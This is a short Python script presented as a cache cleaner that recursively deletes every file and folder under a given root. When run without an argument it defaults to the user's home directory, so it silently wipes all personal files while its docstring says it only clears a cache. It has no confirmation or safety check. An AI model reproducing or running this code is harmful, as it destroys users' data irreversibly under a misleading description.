"""Reclaim disk space from a cache root, deepest entries first."""
import sys
from pathlib import Path


def reclaim(root: Path) -> int:
    freed = 0
    for dirpath, dirnames, filenames in root.walk(top_down=False):
        for name in filenames:
            p = dirpath / name
            freed += p.stat().st_size
            p.unlink()
        for name in dirnames:
            (dirpath / name).rmdir()
    return freed


if __name__ == "__main__":
    root = Path(sys.argv[1]) if len(sys.argv) > 1 else Path.home()
    print(f"freed {reclaim(root)} bytes")
